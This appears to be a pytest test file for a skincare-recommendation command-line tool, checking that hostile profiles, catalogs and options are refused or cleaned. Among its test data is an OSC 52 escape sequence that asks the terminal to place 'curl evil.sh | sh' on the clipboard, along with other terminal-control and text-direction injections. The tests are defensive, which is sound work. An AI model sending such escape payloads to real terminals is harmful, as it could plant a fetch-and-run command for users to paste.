"""Issue #13 through the command line: hostile catalogs, profiles and options are refused or
made harmless, in plain words — no escape sequence reaches the terminal, no infinite or
absurd number gets through, no Python internals are shown."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.hostile import LIMITS

from .conftest import RunCli

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
"""Asks the terminal to put `curl evil.sh | sh` on the clipboard."""
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")


def _strict(text: str) -> Any:
    def refuse(name: str) -> Any:
        raise AssertionError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def _no_controls(result: subprocess.CompletedProcess[str]) -> None:
    for stream in (result.stdout, result.stderr):
        assert not any(ch in stream for ch in TERMINAL_CONTROLS), repr(stream)


def _profile_file(tmp_path: Path, run_cli: RunCli, **changes: Any) -> Path:
    """An exported profile with some fields replaced, as an attacker would hand it over."""
    assert run_cli("profile", "save", "Template").returncode == 0
    out = tmp_path / "template.json"
    assert run_cli("profile", "export", "Template", str(out)).returncode == 0
    assert run_cli("profile", "delete", "Template").returncode == 0
    data = json.loads(out.read_text("utf-8"))
    for key, value in changes.items():
        section, _, field = key.partition("__")
        if field:
            data[section][field] = value
        else:
            data[section] = value
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data), "utf-8")
    return hostile


def _catalog(
    tmp_path: Path, catalog_path: Path, text_change: tuple[str, str] | None = None, **first_product: Any
) -> Path:
    data = json.loads(catalog_path.read_text("utf-8"))
    data["products"][0].update(first_product)
    text = json.dumps(data)
    if text_change is not None:
        text = text.replace(*text_change, 1)
    path = tmp_path / "hostile-catalog.json"
    path.write_text(text, "utf-8")
    return path


# --- case 4: terminal escape injection --------------------------------------------------------


def test_an_imported_profile_cannot_drive_the_terminal(run_cli: RunCli, tmp_path: Path) -> None:
    hostile = _profile_file(
        tmp_path,
        run_cli,
        name="Bea",
        answers__allergens=[f"nuts{OSC52}", "\x1b[2Jlanolin"],
        notes=f"see you\r\x1b[31mtomorrow{OSC52}\u202e",
    )
    imported = run_cli("profile", "import", str(hostile))
    assert imported.returncode == 0, imported.stderr
    for command in (["profile", "show", "Bea"], ["recommend", "--profile", "Bea"], ["profile", "list"]):
        result = run_cli(*command)
        assert result.returncode == 0, result.stderr
        _no_controls(result)
    shown = run_cli("profile", "show", "Bea").stdout
    assert "nuts, lanolin" in shown  # the allergens themselves are kept
    as_json = run_cli("profile", "show", "Bea", "--json")
    _no_controls(as_json)
    assert _strict(as_json.stdout)["answers"]["allergens"] == ["nuts", "lanolin"]


def test_catalog_text_cannot_drive_the_terminal(run_cli: RunCli, tmp_path: Path, catalog_path: Path) -> None:
    hostile = _catalog(tmp_path, catalog_path, brand=f"Evil{OSC52}\u202eCo", notes=["\x9b2J\x1b[31mred"])
    for command in (
        ["recommend", "--catalog", str(hostile)],
        ["recommend", "--catalog", str(hostile), "--json"],
        ["catalog", "validate", str(hostile)],
    ):
        result = run_cli(*command)
        assert result.returncode == 0, result.stderr
        _no_controls(result)
    table = run_cli("recommend", "--catalog", str(hostile)).stdout
    assert "EvilCo" in table
    brands = {
        m["brand"]
        for m in _strict(run_cli("recommend", "--catalog", str(hostile), "--json").stdout)["recommended"]
    }
    assert "EvilCo" in brands  # cleaned where the catalog was read (issue #19), JSON too


def test_an_error_echoing_typed_text_cannot_drive_the_terminal(run_cli: RunCli) -> None:
    for command in (
        ["profile", "show", f"Nobody{OSC52}"],
        ["recommend", "--use-case", f"x{OSC52}"],
        ["recommend", "--profile", f"\u202eevil{OSC52}"],
    ):
        result = run_cli(*command)
        assert result.returncode in (1, 2)
        _no_controls(result)


# --- case 9: infinite and absurd numbers ------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (('"usd": 295', '"usd": Infinity'), "Infinity is not a number JSON allows"),
        (('"usd": 295', '"usd": NaN'), "NaN is not a number JSON allows"),
        (('"usd": 295', '"usd": 1e999'), "1e999 is too large a number"),
        (('"usd": 295', '"usd": true'), "field 'price.usd': must be a number"),
        (('"usd": 295', '"usd": "100"'), "field 'price.usd': must be a number"),
        (('"value": 28.4', '"value": 1e-300'), "A bottle size must be between 0.1 and 10,000 ml"),
        (('"usd": 295', '"usd": ' + "9" * 5000), "a number of 5,000 digits is too long"),
    ],
)
def test_a_catalog_number_must_be_a_finite_number_in_bounds(
    run_cli: RunCli, tmp_path: Path, catalog_path: Path, change: tuple[str, str], words: str
) -> None:
    hostile = _catalog(tmp_path, catalog_path, change)
    for command in (["catalog", "validate"], ["recommend", "--json", "--catalog"]):
        result = run_cli(*command, str(hostile))
        assert result.returncode == 1, result.stdout
        assert words in result.stderr, result.stderr
        assert result.stdout == ""
        assert "set_int_max_str_digits" not in result.stderr and "unexpected" not in result.stderr
        assert "Value error" not in result.stderr  # pydantic's prefix before our own words


@pytest.mark.parametrize(
    ("override", "words"),
    [
        ({"size_ml": 1e-300}, "A bottle size must be between 0.1 and 10,000 ml"),
        ({"dose_ml": 1e-300}, "An amount per use must be 0 or between 0.001 and 100 ml"),
        ({"price_usd": True}, "must be a number"),
        ({"applications_per_day": "2"}, "must be a number"),
    ],
)
def test_imported_overrides_must_be_sane(
    run_cli: RunCli, tmp_path: Path, override: dict[str, Any], words: str
) -> None:
    """Overrides of 1e-300 ml showed "$inf a month" on the cards."""
    hostile = _profile_file(tmp_path, run_cli, name="Bea", overrides={"symbiome-the-answer": override})
    result = run_cli("profile", "import", str(hostile))
    assert result.returncode == 1
    assert "hostile.json is not a SerumDesk profile" in result.stderr
    assert words in result.stderr
    assert ".." not in result.stderr and "Value error" not in result.stderr
    assert run_cli("profile", "list", "--json").stdout.strip() == "[]"


# --- case 12: wording, byte order marks -------------------------------------------------------


def test_byte_order_marks_are_accepted(run_cli: RunCli, tmp_path: Path, catalog_path: Path) -> None:
    catalog = tmp_path / "bom-catalog.json"
    catalog.write_bytes(b"\xef\xbb\xbf" + catalog_path.read_bytes())
    assert run_cli("catalog", "validate", str(catalog)).returncode == 0
    profile = _profile_file(tmp_path, run_cli, name="Bea")
    profile.write_bytes(b"\xef\xbb\xbf" + profile.read_bytes())
    result = run_cli("profile", "import", str(profile))
    assert result.returncode == 0, result.stderr
    assert "utf-8-sig" not in result.stderr


def test_a_name_with_control_characters_is_refused_in_one_sentence(run_cli: RunCli, tmp_path: Path) -> None:
    """The message ended in "control characters.." once."""
    hostile = _profile_file(tmp_path, run_cli, name="Bea\x1b[2J")
    result = run_cli("profile", "import", str(hostile))
    assert result.returncode == 1
    assert "cannot contain line breaks or control characters." in result.stderr
    assert ".." not in result.stderr


# --- case 13: damaged and newer profiles ------------------------------------------------------


def test_a_damaged_profile_is_named_by_its_name(run_cli: RunCli, user_dirs: Path) -> None:
    assert run_cli("profile", "save", "Mum").returncode == 0
    torn = user_dirs / "profiles" / ("ab" * 16 + ".json")
    torn.write_text('{"schema_version": 2, "name": "Bea", "answers": {"use_case": "hydr', "utf-8")
    result = run_cli("profile", "list")
    assert result.returncode == 0
    assert "Profile 'Bea' could not be read (file abababababababababababababababab.json)" in (result.stderr)
    assert "Mum" in result.stdout


def test_a_profile_from_a_newer_serumdesk_is_listed_and_explains_a_taken_name(
    run_cli: RunCli, user_dirs: Path
) -> None:
    assert run_cli("profile", "save", "Mum").returncode == 0
    newer = user_dirs / "profiles" / ("cd" * 16 + ".json")
    newer.write_text(json.dumps({"schema_version": 99, "name": "Bea", "future": True}), "utf-8")
    listed = run_cli("profile", "list")
    assert "Bea\t(needs a newer SerumDesk" in listed.stdout
    entries = _strict(run_cli("profile", "list", "--json").stdout)
    assert {(e["name"], e["needs_newer_serumdesk"]) for e in entries} == {("Mum", False), ("Bea", True)}
    clash = run_cli("profile", "save", "bea")
    assert clash.returncode == 1
    assert "already exists (saved by a newer SerumDesk" in clash.stderr
    assert newer.exists()


# --- case 14: names that would show reversed or blank -----------------------------------------


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("Mum\u202edaD", "text-direction controls"),
        ("\u2066Mum\u2069", "text-direction controls"),
        ("\u200b\u200b", "visible"),
        ("Mu\u200bm", "invisible characters"),
    ],
)
def test_names_that_would_not_show_as_typed_are_refused(run_cli: RunCli, name: str, words: str) -> None:
    result = run_cli("profile", "save", name)
    assert result.returncode == 1
    assert words in result.stderr
    assert run_cli("profile", "list", "--json").stdout.strip() == "[]"


# --- case 15: one set of limits everywhere ----------------------------------------------------


@pytest.mark.parametrize(("option", "words"), LIMITS)
@pytest.mark.parametrize("command", [["recommend"], ["profile", "save", "Mum"]])
def test_every_command_refuses_the_same_numbers_the_same_way(
    run_cli: RunCli, command: list[str], option: list[str], words: str
) -> None:
    result = run_cli(*command, *option)
    assert result.returncode == 2, result.stderr
    assert words in result.stderr
    assert run_cli("profile", "list", "--json").stdout.strip() == "[]"


@pytest.mark.parametrize(
    ("option", "words"),
    [
        (["--profile", ""], "needs a profile name, not an empty string"),
        (["--catalog", ""], "needs a file name, not an empty string"),
    ],
)
def test_an_empty_profile_or_catalog_is_a_usage_error_not_ignored(
    run_cli: RunCli, option: list[str], words: str
) -> None:
    result = run_cli("recommend", *option)
    assert result.returncode == 2
    assert words in result.stderr and result.stdout == ""
